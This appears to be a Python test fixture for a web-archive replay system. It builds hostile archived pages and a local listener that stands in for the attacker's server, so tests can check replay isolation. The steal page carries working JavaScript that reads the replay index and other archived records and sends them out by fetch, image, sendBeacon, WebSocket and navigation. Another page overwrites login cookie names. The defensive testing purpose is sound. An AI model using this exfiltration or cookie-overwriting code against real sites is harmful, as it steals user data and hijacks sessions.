"""Hostile archived pages for the replay-isolation tests, and a listener that plays the attacker's server.

Three records (issue 9, "Replay isolation"), written with warcio into ``warcs/hostile-00001.warc.gz``:

* ``http://evil.test/steal``: reads the replay index (our CDX API and pywb's own ``/web/cdx``) and another
  archived record (raw ``id_``), then sends what it read to the listener by every channel a page has
  (fetch, image, sendBeacon, WebSocket, and at last navigating itself there);
* ``http://evil.test/ws``: opens a WebSocket to the listener (a beacon: "someone is looking at me");
* ``http://evil.test/cookie``: answers ``Set-Cookie`` for the interface's login cookie names, ``Path=/``.

Each page writes what happened into its own ``#result`` too (the stealing one also to the console, as
its frame may be gone when it tried to navigate away). The listener records every connection's
request head (a WebSocket handshake is an HTTP request), whatever it is, and answers 204.
"""
from __future__ import annotations

import hashlib
import io
import socket
import threading
from pathlib import Path

from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from archiver.db import tables as t

from .evidence import PAGE_TEXT, T1

STOLEN_MARK = PAGE_TEXT  # the other record's text: seen by the listener only if it was read and sent
INDEX_MARK = "test,site)/"  # a SURT key of the index: seen only if the index was read and sent
COOKIE_NAMES = ("archiver_token", "__Host-archiver", "archiver_session")
WARC = "warcs/hostile-00001.warc.gz"


def steal_html(listener: str) -> str:
    return """<!doctype html><html><head><title>steal</title></head><body><h1>Hostile page</h1>
<pre id="result">pending</pre><script>
var L = '%(listener)s', out = [], stolen = [];
var P = (window.wbinfo && wbinfo.prefix) || (location.href.split('/web/')[0] + '/web/');
var ROOT = P.slice(0, P.length - 4);
var reads = [ROOT + 'cdx/search/cdx?url=site.test&matchType=host&output=json',
             P + 'cdx?url=site.test/*&output=json',
             P + 'timemap/json/http://site.test/page.html',
             P + '20170512100000id_/http://site.test/page.html'];
function note(s) { out.push(s); document.getElementById('result').textContent = out.join(' | ');
                   console.log('hostile: ' + s); }
function send(data) {
  var q = encodeURIComponent(data.slice(0, 1500));
  try { fetch(L + '/fetch?d=' + q, {mode: 'no-cors'}).catch(function () {}); } catch (e) {}
  try { new Image().src = L + '/img?d=' + q; } catch (e) {}
  try { navigator.sendBeacon(L + '/beacon', data); } catch (e) {}
  try { var ws = new WebSocket(L.replace('http', 'ws') + '/ws?d=' + q); ws.onerror = function () {}; } catch (e) {}
}
Promise.all(reads.map(function (u) {
  return fetch(u, {credentials: 'include'}).then(function (r) { return r.text(); })
    .then(function (x) { note('read ' + u.slice(-40) + ': ' + x.length); stolen.push(x.slice(0, 600)); },
          function (e) { note('blocked ' + u.slice(-40)); });
})).then(function () {
  var data = stolen.join('\\n');
  note(data ? 'sending ' + data.length : 'nothing read');
  send(data || 'nothing-read');
  setTimeout(function () { note('navigating'); location.href = L + '/nav?d=' + encodeURIComponent(data.slice(0, 1500)); }, 700);
});
</script></body></html>""" % {"listener": listener}


def ws_html(listener: str) -> str:
    return """<!doctype html><html><body><h1>Beacon</h1><pre id="result">pending</pre><script>
var r = document.getElementById('result');
try {
  var ws = new WebSocket('%(ws)s/ws-beacon');
  ws.onopen = function () { r.textContent = 'open'; };
  ws.onerror = function () { r.textContent = 'error'; };
  ws.onclose = function () { if (r.textContent === 'pending') r.textContent = 'closed'; };
} catch (e) { r.textContent = 'blocked: ' + e; }
setTimeout(function () { if (r.textContent === 'pending') r.textContent = 'no answer'; }, 3000);
</script></body></html>""" % {"ws": listener.replace("http", "ws")}


def cookie_html() -> str:
    return "<!doctype html><html><body><h1>Cookie setter</h1><p id=\"result\">served</p></body></html>"


def _response(writer, url: str, body: bytes, extra=()):
    headers = [("Content-Type", "text/html; charset=utf-8"), ("Content-Length", str(len(body)))] + list(extra)
    http = StatusAndHeaders("200 OK", headers, protocol="HTTP/1.1")
    rec = writer.create_warc_record(url, "response", payload=io.BytesIO(body), http_headers=http,
                                    warc_headers_dict={"WARC-Date": T1.strftime("%Y-%m-%dT%H:%M:%SZ")})
    writer.write_record(rec)


PAGES = {"steal": "http://evil.test/steal", "ws": "http://evil.test/ws", "cookie": "http://evil.test/cookie"}


def write_hostile(root: Path, listener: str) -> Path:
    path = Path(root) / WARC
    path.parent.mkdir(parents=True, exist_ok=True)
    cookies = [("Set-Cookie", f"{n}=attacker; Path=/") for n in COOKIE_NAMES] + [
        ("Set-Cookie", f"{n}=attacker-secure; Path=/; Secure; SameSite=None") for n in COOKIE_NAMES]
    with open(path, "wb") as fh:
        w = WARCWriter(fh, gzip=True, warc_version="1.1")
        _response(w, PAGES["steal"], steal_html(listener).encode())
        _response(w, PAGES["ws"], ws_html(listener).encode())
        _response(w, PAGES["cookie"], cookie_html().encode(), cookies)
    return path


def add_rows(Session, root: Path, report_id: int) -> dict[str, int]:
    """One activity per hostile page, each citing it, with its capture: the interface shows them."""
    from tests.browser.evidence import _records

    recs = _records(Path(root) / WARC)
    ids = {}
    with Session() as s:
        for n, (name, url) in enumerate(PAGES.items(), start=10):
            h = hashlib.sha256(url.encode()).hexdigest()
            target = t.Target(url=url, url_hash=h, status=t.CAPTURED, stage="done")
            s.add(target)
            s.flush()
            r = recs[(url, "response")]
            cap = t.Capture(role="target", url=url, url_hash=h, captured_at=T1, http_status=200,
                            content_type=r["ctype"], sha256=r["sha256"], payload_digest=r["payload_digest"],
                            payload_length=r["payload_length"], record_id=r["record_id"], warc_file=WARC,
                            offset=r["offset"], length=r["length"], target_id=target.id)
            act = t.Activity(report_id=report_id, ordinal=n, text=f"Hostile {name}.")
            s.add_all([cap, act])
            s.flush()
            s.add(t.Link(activity_id=act.id, position=0, url_raw=url, url_normalized=url, target_id=target.id))
            ids[name] = act.id
        s.commit()
    return ids


class Listener:
    """The attacker's server on 127.0.0.1: keeps the request head of every connection, answers 204."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.url = f"http://127.0.0.1:{self.sock.getsockname()[1]}"
        self.heads: list[str] = []
        self._lock = threading.Lock()
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._one, args=(conn,), daemon=True).start()

    def _one(self, conn):
        conn.settimeout(3)
        data = b""
        try:
            while b"\r\n\r\n" not in data and len(data) < 65536:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                data += chunk
            conn.sendall(b"HTTP/1.1 204 No Content\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        except OSError:
            pass
        finally:
            conn.close()
        if data:
            with self._lock:
                self.heads.append(data.decode("latin-1"))

    def text(self) -> str:
        from urllib.parse import unquote

        with self._lock:
            return unquote("\n".join(self.heads))

    def clear(self):
        with self._lock:
            self.heads.clear()

    def close(self):
        self.sock.close()
